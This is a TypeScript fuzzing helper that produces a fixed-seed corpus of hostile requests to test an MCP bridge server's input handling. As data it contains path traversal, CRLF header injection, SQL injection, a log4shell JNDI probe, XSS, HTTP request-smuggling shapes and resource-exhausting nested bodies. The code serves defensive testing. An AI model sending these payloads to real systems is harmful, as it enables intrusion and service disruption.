/**
 * The hostile-input corpus: fast-check arbitraries for malformed and adversarial requests, sampled
 * with a fixed seed so every run sends the same cases (a failure names its case and reproduces).
 */
import { Ajv } from 'ajv';
import addFormatsPlugin from 'ajv-formats';
import fc from 'fast-check';
import { REVISION_2026, modernMeta } from '../../helpers/modern-request.js';

/** One tool as tools/list describes it. */
export interface ToolShape {
  name: string;
  inputSchema: Record<string, unknown>;
}

/** One request to send. `raw` requests go byte for byte over a socket; the rest through undici. */
export interface HostileRequest {
  category: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
  /** A complete HTTP/1.1 request, for input no HTTP client library will send (CRLF in a path, …). */
  raw?: string;
  /** A short name of the case within its category (the huge bodies, the raw requests). */
  label?: string;
  /** For tools/call cases: the tool and, for argument cases, the argument that must be named. */
  tool?: string;
  badArgument?: string;
}

/** How a JSON-RPC message reaches the bridge: each generation of the transport, plus the one-shot route. */
export type Envelope = 'stateless-2026' | 'stateless-2025' | 'session-2025' | 'messages-direct' | 'legacy-session';

export interface CorpusContext {
  token: string;
  streamableSessionId: string;
  legacySessionId: string;
  tools: readonly ToolShape[];
  /** Valid arguments per tool (real ids from the sandbox data for alice). */
  validArgs: Readonly<Record<string, Record<string, unknown>>>;
  /** Largest body the bridge accepts (MCP_MAX_BODY_BYTES). */
  maxBodyBytes: number;
}

const PROTOCOL_2025 = '2025-11-25';

const addFormats = ((addFormatsPlugin as unknown as { default?: unknown }).default ?? addFormatsPlugin) as (
  ajv: Ajv,
) => Ajv;

/** The same rules the tools apply: formats on, no coercion. Used to keep only arguments that are really wrong. */
export function createArgumentChecker(tools: readonly ToolShape[]): (tool: string, args: unknown) => boolean {
  const ajv = new Ajv({ strict: false, validateFormats: true });
  addFormats(ajv);
  const validators = new Map(tools.map((tool) => [tool.name, ajv.compile(tool.inputSchema)]));
  return (tool, args) => validators.get(tool)?.(args) === true;
}

/** Wraps one JSON-RPC message (already text or an object) into an HTTP request of the chosen envelope. */
export function envelope(
  context: CorpusContext,
  kind: Envelope,
  message: unknown,
  category: string,
  extra: Partial<HostileRequest> = {},
): HostileRequest {
  const auth = { Authorization: `Bearer ${context.token}`, 'Content-Type': 'application/json' };
  const accept = { Accept: 'application/json, text/event-stream' };
  let body = typeof message === 'string' ? message : JSON.stringify(message);
  const record = typeof message === 'object' && message !== null ? (message as Record<string, unknown>) : undefined;
  const method = typeof record?.['method'] === 'string' ? record['method'] : undefined;
  switch (kind) {
    case 'stateless-2026': {
      const headers: Record<string, string> = { ...auth, ...accept, 'MCP-Protocol-Version': REVISION_2026 };
      if (method && /^[\x21-\x7e]{1,100}$/.test(method)) headers['Mcp-Method'] = method;
      const params = record?.['params'] as Record<string, unknown> | undefined;
      const name = params?.['name'];
      if (method === 'tools/call' && typeof name === 'string' && /^[\x21-\x7e]{1,100}$/.test(name)) {
        headers['Mcp-Name'] = name;
      }
      if (record && params && typeof params === 'object' && !Array.isArray(params)) {
        body = JSON.stringify({
          ...record,
          params: {
            ...params,
            _meta: { ...modernMeta(), ...(params['_meta'] as object | undefined) },
          },
        });
      }
      return { category, method: 'POST', path: '/mcp', headers, body, ...extra };
    }
    case 'stateless-2025':
      return {
        category,
        method: 'POST',
        path: '/mcp',
        headers: { ...auth, ...accept, 'MCP-Protocol-Version': PROTOCOL_2025 },
        body,
        ...extra,
      };
    case 'session-2025':
      return {
        category,
        method: 'POST',
        path: '/mcp',
        headers: {
          ...auth,
          ...accept,
          'MCP-Protocol-Version': PROTOCOL_2025,
          'Mcp-Session-Id': context.streamableSessionId,
        },
        body,
        ...extra,
      };
    case 'messages-direct':
      return { category, method: 'POST', path: '/messages', headers: { ...auth, ...accept }, body, ...extra };
    case 'legacy-session':
      return {
        category,
        method: 'POST',
        path: `/messages?sessionId=${encodeURIComponent(context.legacySessionId)}`,
        headers: auth,
        body,
        ...extra,
      };
  }
}

const ENVELOPES: readonly Envelope[] = [
  'stateless-2026',
  'stateless-2025',
  'session-2025',
  'messages-direct',
  'legacy-session',
];
const envelopeArb = fc.constantFrom(...ENVELOPES);

/** Strings that try to break out of a path segment or a query value. */
export const INJECTION_STRINGS = [
  '..',
  '.',
  '../',
  '../../',
  '../../../etc/passwd',
  '..%2f',
  '..%2F..%2Fadmin',
  '%2e%2e',
  '%2E%2E%2F',
  '.%2e',
  '%2e.',
  '..\\..\\',
  'a/b',
  '/',
  '//evil.example',
  'http://evil.example/x',
  '@evil.example',
  'x?per_page=60&page=999',
  '?',
  'x#fragment',
  '#',
  'x&company_uuids=other',
  'x;jsessionid=1',
  '\r\nX-Injected: 1',
  'x\r\n\r\nGET /admin HTTP/1.1',
  '%0d%0aX-Injected:%201',
  'x\u0000y',
  '%00',
  ' ',
  'x y',
  '%',
  '%zz',
  '%%32%65',
  "' OR '1'='1",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a log4shell probe is the point
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'ünïcødé-名前',
  '\u202e',
  'a'.repeat(2_000),
] as const;

/** An injection string, alone or glued to a real id or to other fragments. */
export function injectionArb(realId: string): fc.Arbitrary<string> {
  const fragment = fc.constantFrom(...INJECTION_STRINGS);
  return fc.oneof(
    fragment,
    fragment.map((s) => `${realId}${s}`),
    fragment.map((s) => `${realId}/${s}`),
    fc
      .array(fc.oneof(fragment, fc.constantFrom('..', '/', '%2e', '%2f', '?', '#', '&', '=', '\r', '\n', 'x')), {
        minLength: 2,
        maxLength: 6,
      })
      .map((parts) => parts.join('')),
  );
}

/** A value of the wrong JSON type for a schema (checked against the schema by the caller). */
function wrongValueArb(schema: Record<string, unknown> | undefined): fc.Arbitrary<unknown> {
  const any = fc.oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.string({ maxLength: 20 }),
    fc.array(fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 3 }),
    fc.constantFrom('2024-13-45', 'yesterday', '01/02/2024', '', '-1', '1e999', 'NaN', 'null', 'true', '[]', '{}'),
    fc.constantFrom(0, -1, 61, 1e308, -1e308, 2 ** 53, 0.5),
  );
  const enumValues = schema?.['enum'] as unknown[] | undefined;
  return enumValues ? fc.oneof(any, fc.string({ minLength: 1, maxLength: 12 })) : any;
}

/**
 * tools/call with wrong types in every argument, missing required ones, unknown ones and arguments
 * that are not an object at all. Only cases the tool's schema rejects are kept.
 */
export function wrongArgumentCases(context: CorpusContext, count: number, seed: number): HostileRequest[] {
  const accepts = createArgumentChecker(context.tools);
  const toolArb = fc.constantFrom(...context.tools);
  const caseArb = toolArb.chain((tool) => {
    const properties = (tool.inputSchema['properties'] ?? {}) as Record<string, Record<string, unknown>>;
    const required = (tool.inputSchema['required'] ?? []) as string[];
    const valid = context.validArgs[tool.name] ?? {};
    const names = Object.keys(properties);
    const mutations: fc.Arbitrary<{ args: unknown; badArgument?: string }>[] = [];
    if (names.length > 0) {
      mutations.push(
        fc
          .constantFrom(...names)
          .chain((name) =>
            wrongValueArb(properties[name]).map((value) => ({ args: { ...valid, [name]: value }, badArgument: name })),
          ),
      );
    }
    if (required.length > 0) {
      mutations.push(
        fc.constantFrom(...required).map((name) => {
          const args: Record<string, unknown> = { ...valid };
          delete args[name];
          return { args, badArgument: name };
        }),
      );
    }
    mutations.push(
      fc.constantFrom<unknown>('a string', 42, [1, 2], true).map((args) => ({ args })),
      fc
        // `__proto__` is not here: JSON parsing drops it before any validator sees it (prototypeCases checks it is inert).
        .constantFrom('constructor', 'toString', 'unknown_argument', 'page ', 'companyUUID')
        .map((name) => ({ args: JSON.parse(`{${JSON.stringify(name)}: {"polluted": true}}`) as unknown })),
    );
    return fc.tuple(fc.constant(tool.name), fc.oneof(...mutations), envelopeArb);
  });
  const cases: HostileRequest[] = [];
  let id = 0;
  for (const [tool, mutation, kind] of fc.sample(caseArb, { seed, numRuns: count * 3 })) {
    if (cases.length >= count) break;
    if (accepts(tool, mutation.args)) continue;
    const message = {
      jsonrpc: '2.0',
      id: `arg-${++id}`,
      method: 'tools/call',
      params: { name: tool, arguments: mutation.args },
    };
    cases.push(envelope(context, kind, message, 'wrong tool arguments', { tool, badArgument: mutation.badArgument }));
  }
  return cases;
}

/** tools/call with injection strings in every string path and query parameter, the rest valid. */
export function injectionCases(
  context: CorpusContext,
  targets: readonly { tool: string; argument: string; realId: string }[],
  count: number,
  seed: number,
): HostileRequest[] {
  const caseArb = fc
    .constantFrom(...targets)
    .chain((target) => fc.tuple(fc.constant(target), injectionArb(target.realId), envelopeArb));
  return fc.sample(caseArb, { seed, numRuns: count }).map(([target, value, kind], i) =>
    envelope(
      context,
      kind,
      {
        jsonrpc: '2.0',
        id: `inj-${i}`,
        method: 'tools/call',
        params: { name: target.tool, arguments: { ...context.validArgs[target.tool], [target.argument]: value } },
      },
      'injection in ids',
      { tool: target.tool },
    ),
  );
}

/**
 * Arguments that try to reach the tool through the prototype (`{"__proto__": {...}}`): whatever
 * happens to the key, nothing inside it may reach NeonPanel.
 */
export function prototypeCases(context: CorpusContext): HostileRequest[] {
  const company = JSON.stringify(context.validArgs['list_inventory_items']?.['companyUuid'] ?? 'x');
  const payloads = [
    `{"__proto__":{"per_page":1000,"page":-5,"search":"PROTO-SMUGGLED"}}`,
    `{"companyUuid":${company},"__proto__":{"per_page":1000,"search":"PROTO-SMUGGLED"}}`,
    `{"companyUuid":${company},"constructor":{"prototype":{"search":"PROTO-SMUGGLED"}}}`,
  ];
  const tools = ['list_companies', 'list_inventory_items', 'list_warehouses'];
  return payloads.flatMap((args) =>
    tools.flatMap((tool) =>
      ENVELOPES.map((kind) =>
        envelope(
          context,
          kind,
          `{"jsonrpc":"2.0","id":"proto","method":"tools/call","params":{"name":"${tool}","arguments":${args}}}`,
          'prototype pollution',
          { tool },
        ),
      ),
    ),
  );
}

/** Bodies that are not JSON, or are JSON cut short. */
export function brokenJsonCases(context: CorpusContext, count: number, seed: number): HostileRequest[] {
  const valid = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} });
  const bodyArb = fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.nat({ max: valid.length - 1 }).map((n) => valid.slice(0, n)),
    fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
    fc.constantFrom(
      '',
      ' ',
      'null',
      '[]',
      '{}',
      '[{}]',
      '"str"',
      '1',
      'true',
      '{"jsonrpc":"2.0",}',
      "{'a':1}",
      '\uFEFF{}',
    ),
    fc.json().map((json) => `${json}}`),
  );
  return fc
    .sample(fc.tuple(bodyArb, envelopeArb), { seed, numRuns: count })
    .map(([body, kind]) => envelope(context, kind, body, 'broken JSON'));
}

/** Well-formed JSON that is not a valid JSON-RPC message (or a batch of them). */
export function jsonRpcShapeCases(context: CorpusContext, count: number, seed: number): HostileRequest[] {
  const idArb = fc.oneof(
    fc.integer(),
    fc.string({ maxLength: 10 }),
    fc.constant(null),
    fc.boolean(),
    fc.double(),
    fc.array(fc.integer(), { maxLength: 2 }),
    fc.dictionary(fc.string({ maxLength: 3 }), fc.integer(), { maxKeys: 2 }),
    fc.constant('x'.repeat(10_000)),
  );
  const methodArb = fc.oneof(
    fc.constantFrom(
      'tools/call',
      'tools/list',
      'initialize',
      'server/discover',
      'notifications/initialized',
      'ping',
      'resources/list',
      'prompts/get',
      'logging/setLevel',
      'completion/complete',
      'subscriptions/listen',
      'rpc.discover',
      '__proto__',
      'constructor',
      '',
    ),
    fc.string({ maxLength: 30 }),
    fc.integer(),
    fc.constant(null),
  );
  const paramsArb = fc.oneof(
    fc.constant(undefined),
    fc.jsonValue({ maxDepth: 3 }),
    fc.record({ name: fc.jsonValue({ maxDepth: 1 }), arguments: fc.jsonValue({ maxDepth: 2 }) }),
    fc.record({
      protocolVersion: fc.oneof(fc.string({ maxLength: 12 }), fc.integer()),
      capabilities: fc.jsonValue({ maxDepth: 2 }),
      clientInfo: fc.jsonValue({ maxDepth: 2 }),
    }),
    fc.constant({ _meta: { 'io.modelcontextprotocol/protocolVersion': 42 } }),
  );
  const messageArb = fc.record(
    {
      jsonrpc: fc.oneof(fc.constant('2.0'), fc.constantFrom('1.0', '2', 2, null, '')),
      id: idArb,
      method: methodArb,
      params: paramsArb,
      result: fc.jsonValue({ maxDepth: 1 }),
      error: fc.jsonValue({ maxDepth: 1 }),
    },
    { requiredKeys: [] },
  );
  const bodyArb = fc.oneof(
    { weight: 4, arbitrary: messageArb },
    { weight: 1, arbitrary: fc.array(messageArb, { maxLength: 5 }) },
  );
  return fc
    .sample(fc.tuple(bodyArb, envelopeArb), { seed, numRuns: count })
    .map(([body, kind]) => envelope(context, kind, JSON.stringify(body), 'JSON-RPC shapes'));
}

const ROUTES = [
  '/',
  '/healthz',
  '/healthz?deep=1',
  '/readyz',
  '/.well-known/oauth-protected-resource',
  '/.well-known/oauth-protected-resource/mcp',
  '/.well-known/oauth-protected-resource/sse',
  '/.well-known/oauth-authorization-server',
  '/.well-known/openid-configuration',
  '/openapi.json',
  '/openapi.yaml',
  '/mcp',
  '/sse',
  '/messages',
  '/metrics',
] as const;

/** Paths that smuggle traversal, queries and odd encodings into the routes. */
const SMUGGLED_PATHS = [
  '/mcp/../sse',
  '/%2e%2e/mcp',
  '/mcp/%2e%2e/metrics',
  '//mcp',
  '/mcp/',
  '/MCP',
  '/mcp;a=b',
  '/mcp%00',
  '/mcp%2f..%2fsse',
  '/messages?sessionId=../../etc/passwd',
  '/messages?sessionId=%0d%0aX-Injected:1',
  '/messages?sessionId=a&sessionId=b',
  '/messages?sessionId[]=a',
  '/messages?sessionId[$ne]=x',
  '/messages?sessionId=',
  '/messages?sessionId=__proto__',
  '/sse?sessionId=x',
  '/mcp?access_token=abc',
  '/.well-known/oauth-protected-resource/..%2fmcp',
  '/.well-known/oauth-protected-resource/mcp/../../metrics',
  '/openapi.json/../../../../etc/passwd',
  '/healthz?deep=1&deep=0',
  '/healthz?deep[]=1',
  '/?%zz',
  `/${'a'.repeat(4_000)}`,
  `/mcp?${'x=1&'.repeat(1_000)}`,
] as const;

/** Any method on any route (and smuggled paths) with junk in the headers the bridge reads. */
export function routeJunkCases(context: CorpusContext, count: number, seed: number): HostileRequest[] {
  const headerValue = fc.oneof(
    fc.constantFrom(
      '',
      'null',
      '../../etc/passwd',
      'x'.repeat(300),
      '2026-07-28',
      '2025-11-25',
      '1999-01-01',
      'tools/call',
      context.streamableSessionId,
      context.legacySessionId,
      `${context.streamableSessionId}x`,
    ),
    fc.stringMatching(/^[\x20-\x7e]{0,40}$/),
  );
  const authArb = fc.oneof(
    fc.constant(`Bearer ${context.token}`),
    fc.constantFrom('', 'Bearer', 'Bearer ', 'Basic YWxpY2U6c2VjcmV0', `bearer ${context.token}`, 'Bearer a.b.c'),
    fc.constant(`Bearer ${context.token}, Bearer ${context.token}`),
    fc.stringMatching(/^Bearer [\x21-\x7e]{0,60}$/),
  );
  const headersArb = fc.record(
    {
      Authorization: authArb,
      Accept: fc.oneof(fc.constantFrom('application/json', 'text/event-stream', '*/*', 'text/html', ''), headerValue),
      'Content-Type': fc.oneof(
        fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data'),
        headerValue,
      ),
      'Mcp-Session-Id': headerValue,
      'MCP-Protocol-Version': headerValue,
      'Mcp-Method': headerValue,
      'Mcp-Name': headerValue,
      'Last-Event-ID': headerValue,
      Origin: fc.constantFrom('https://chatgpt.com', 'null', 'https://evil.example'),
    },
    { requiredKeys: [] },
  );
  const bodyArb = fc.oneof(
    fc.constant(undefined),
    fc.constant(JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' })),
    fc.string({ maxLength: 50 }),
  );
  const caseArb = fc.tuple(
    fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'),
    fc.oneof(fc.constantFrom(...ROUTES), fc.constantFrom(...SMUGGLED_PATHS)),
    headersArb,
    bodyArb,
  );
  return fc.sample(caseArb, { seed, numRuns: count }).map(([method, path, headers, body]) => {
    const clean = Object.fromEntries(Object.entries(headers).filter(([, v]) => v !== undefined)) as Record<
      string,
      string
    >;
    const canHaveBody = method !== 'GET' && method !== 'HEAD';
    return {
      category: 'routes, methods and headers',
      method,
      path,
      headers: clean,
      ...(canHaveBody && body !== undefined ? { body } : {}),
    };
  });
}

/** Huge and deeply nested bodies: at, under and over the body limit. */
export function hugeBodyCases(context: CorpusContext): HostileRequest[] {
  const limit = context.maxBodyBytes;
  const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
  const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const wrapArgs = (args: string) =>
    `{"jsonrpc":"2.0","id":"huge","method":"tools/call","params":{"name":"list_companies","arguments":${args}}}`;
  const bodies: [string, string][] = [
    ['nested arrays, depth 10k', wrapArgs(`{"page":${deepArray(10_000)}}`)],
    ['nested arrays, depth 100k', deepArray(Math.min(100_000, Math.floor(limit / 2) - 10))],
    ['nested objects, depth 50k', deepObject(Math.min(50_000, Math.floor(limit / 6) - 10))],
    ['nested params, depth 5k', wrapArgs(deepObject(5_000))],
    ['string just under the limit', wrapArgs(`{"search":"${'x'.repeat(limit - 200)}"}`)],
    ['string just over the limit', wrapArgs(`{"search":"${'x'.repeat(limit + 10)}"}`)],
    ['ten times the limit', `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"x":"${'y'.repeat(limit * 10)}"}}`],
    ['100k element array', wrapArgs(`{"company_uuids":[${Array(100_000).fill('"a"').join(',')}]}`)],
    ['50k keys', wrapArgs(`{${Array.from({ length: 50_000 }, (_, i) => `"k${i}":1`).join(',')}}`)],
    [
      'batch of 10k requests',
      JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'ping' }))),
    ],
  ];
  const kinds: Envelope[] = ['stateless-2026', 'session-2025', 'messages-direct', 'legacy-session'];
  return bodies.flatMap(([name, body]) =>
    kinds.map((kind) => envelope(context, kind, body, 'huge and deeply nested bodies', { label: `${name} (${kind})` })),
  );
}

/** Requests no well-behaved HTTP client sends: oversized or broken headers, CRLF in the request line. */
export function rawCases(context: CorpusContext, origin: string): HostileRequest[] {
  const host = new URL(origin).host;
  const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' });
  const request = (line: string, headers: string[], content = '') =>
    `${line}\r\nHost: ${host}\r\nConnection: close\r\n${headers.join('\r\n')}${headers.length ? '\r\n' : ''}Content-Length: ${Buffer.byteLength(content)}\r\n\r\n${content}`;
  const auth = `Authorization: Bearer ${context.token}`;
  const json = ['Content-Type: application/json', 'Accept: application/json, text/event-stream'];
  const cases: [string, string][] = [
    ['header of 20 KB', request('POST /mcp HTTP/1.1', [auth, ...json, `X-Big: ${'a'.repeat(20_000)}`], body)],
    ['header of 100 KB', request('POST /mcp HTTP/1.1', [auth, ...json, `X-Big: ${'a'.repeat(100_000)}`], body)],
    [
      '2,000 headers',
      request(
        'GET /healthz HTTP/1.1',
        Array.from({ length: 2_000 }, (_, i) => `X-H${i}: v`),
      ),
    ],
    [
      'session id of 20 KB',
      request('POST /mcp HTTP/1.1', [auth, ...json, `Mcp-Session-Id: ${'s'.repeat(20_000)}`], body),
    ],
    ['token of 20 KB', request('POST /mcp HTTP/1.1', [`Authorization: Bearer ${'t'.repeat(20_000)}`, ...json], body)],
    ['CRLF in the path', request('GET /messages?sessionId=a\r\nX-Injected: 1 HTTP/1.1', [auth])],
    ['space in the path', request('GET /mcp /x HTTP/1.1', [auth])],
    ['bare LF line ends', `GET /healthz HTTP/1.1\nHost: ${host}\nConnection: close\n\n`],
    ['header without a colon', request('GET /healthz HTTP/1.1', ['NoColonHere'])],
    ['invalid header name', request('GET /healthz HTTP/1.1', ['Bad Name: x'])],
    ['NUL in a header', request('POST /mcp HTTP/1.1', [auth, ...json, 'X-Nul: a\u0000b'], body)],
    ['obs-fold header', request('POST /mcp HTTP/1.1', [auth, ...json, 'X-Fold: a\r\n b'], body)],
    [
      'two Content-Length',
      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\n${body}`,
    ],
    [
      'Content-Length and chunked',
      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ],
    [
      'bad chunk size',
      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\n${json.join('\r\n')}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`,
    ],
    [
      'negative Content-Length',
      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: -1\r\n\r\n`,
    ],
    ['HTTP/0.9 request', 'GET /\r\n\r\n'],
    ['unknown HTTP version', `GET / HTTP/9.9\r\nHost: ${host}\r\nConnection: close\r\n\r\n`],
    ['absolute-form target', request(`GET http://evil.example/mcp HTTP/1.1`, [auth])],
    ['foreign Host', `GET /mcp HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n${auth}\r\n\r\n`],
    ['garbage', '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u01fc\u0003\u0003'],
  ];
  return cases.map(([name, raw]) => ({
    category: 'oversized and broken headers',
    method: 'RAW',
    path: '',
    label: name,
    headers: {},
    raw,
  }));
}
